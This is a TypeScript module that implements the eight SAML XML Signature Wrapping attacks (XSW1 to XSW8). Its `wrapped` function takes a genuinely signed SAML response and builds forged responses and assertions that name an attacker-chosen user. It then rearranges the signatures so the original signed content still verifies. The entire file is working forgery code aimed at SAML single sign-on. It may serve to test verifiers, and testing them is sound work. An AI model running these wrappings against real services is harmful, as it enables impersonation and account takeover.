import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

interface Node {
  cloneNode(deep: boolean): Node;
  appendChild(child: Node): Node;
  insertBefore(child: Node, before: Node | null): Node;
  removeChild(child: Node): Node;
  setAttribute(name: string, value: string): void;
  getElementsByTagName(name: string): { readonly [index: number]: Node };
  createElement(name: string): Node;
  readonly documentElement: Node;
  readonly firstChild: Node;
  readonly parentNode: Node;
  textContent: string;
}

interface Parts {
  readonly document: Node;
  readonly response: Node;
  readonly assertion: Node;
  /** Copies of both in which somebody else is named, under ids of their own, without signatures. */
  readonly evilResponse: Node;
  readonly evilAssertion: Node;
  /** Of the response and of the assertion. */
  readonly signatures: readonly [Node, Node];
}

/** Signature wrapping, by the numbers under which the attacks are known: what was signed is still there, whole. */
export const WRAPPINGS: Readonly<Record<string, (parts: Parts) => Node>> = {
  'XSW1, the signed response inside the signature of a forged one': ({ evilResponse, response, signatures }) => {
    const signature = signatures[0].parentNode.removeChild(signatures[0]);
    signature.appendChild(response.cloneNode(true));
    evilResponse.insertBefore(signature, evilResponse.firstChild);
    return evilResponse;
  },
  'XSW2, the signed response beside the signature of a forged one': ({ evilResponse, response, signatures }) => {
    const signature = signatures[0].parentNode.removeChild(signatures[0]);
    evilResponse.insertBefore(signature, evilResponse.firstChild);
    evilResponse.insertBefore(response.cloneNode(true), signature);
    return evilResponse;
  },
  'XSW3, a forged assertion before the signed one': ({ response, assertion, evilAssertion }) => {
    response.insertBefore(evilAssertion, assertion);
    return response;
  },
  'XSW4, the signed assertion inside a forged one': ({ response, assertion, evilAssertion }) => {
    response.insertBefore(evilAssertion, assertion);
    evilAssertion.appendChild(response.removeChild(assertion));
    return response;
  },
  'XSW5, the signature moved to a forged assertion, the signed one after it': (parts) => {
    const { response, assertion, evilAssertion, signatures } = parts;
    evilAssertion.insertBefore(assertion.removeChild(signatures[1]), evilAssertion.firstChild);
    response.insertBefore(evilAssertion, assertion);
    return response;
  },
  'XSW6, the signed assertion inside the signature of a forged one': (parts) => {
    const { response, assertion, evilAssertion, signatures } = parts;
    const signature = assertion.removeChild(signatures[1]);
    response.insertBefore(evilAssertion, assertion);
    signature.appendChild(response.removeChild(assertion));
    evilAssertion.insertBefore(signature, evilAssertion.firstChild);
    return response;
  },
  'XSW7, a forged assertion in extensions': ({ document, response, assertion, evilAssertion }) => {
    const extensions = document.createElement('samlp:Extensions');
    extensions.appendChild(evilAssertion);
    response.insertBefore(extensions, assertion);
    return response;
  },
  'XSW8, the signed assertion as an object of the signature of a forged one': (parts) => {
    const { document, response, assertion, evilAssertion, signatures } = parts;
    const signature = assertion.removeChild(signatures[1]);
    response.insertBefore(evilAssertion, assertion);
    const object = document.createElement('ds:Object');
    object.appendChild(response.removeChild(assertion));
    signature.appendChild(object);
    evilAssertion.insertBefore(signature, evilAssertion.firstChild);
    return response;
  },
};

/** A signed response with somebody else wrapped in. */
export function wrapped(xml: string, wrap: (parts: Parts) => Node, evil: string): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml') as unknown as Node;
  const response = document.documentElement;
  const assertion = response.getElementsByTagName('saml:Assertion')[0]!;
  const forged = (node: Node, id: string): Node => {
    const copy = node.cloneNode(true);
    for (let each; (each = copy.getElementsByTagName('ds:Signature')[0]) !== undefined;) {
      each.parentNode.removeChild(each);
    }
    copy.getElementsByTagName('saml:NameID')[0]!.textContent = evil;
    copy.setAttribute('ID', id);
    return copy;
  };
  const [first, second] = [response, assertion].map((node) => node.getElementsByTagName('ds:Signature')[0]!);
  const evilResponse = forged(response, '_evil-response');
  evilResponse.getElementsByTagName('saml:Assertion')[0]!.setAttribute('ID', '_evil-inner');
  const evilAssertion = forged(assertion, '_evil-assertion');
  const parts = { document, response, assertion, evilResponse, evilAssertion, signatures: [first!, second!] as const };
  return new XMLSerializer().serializeToString(wrap(parts) as never);
}
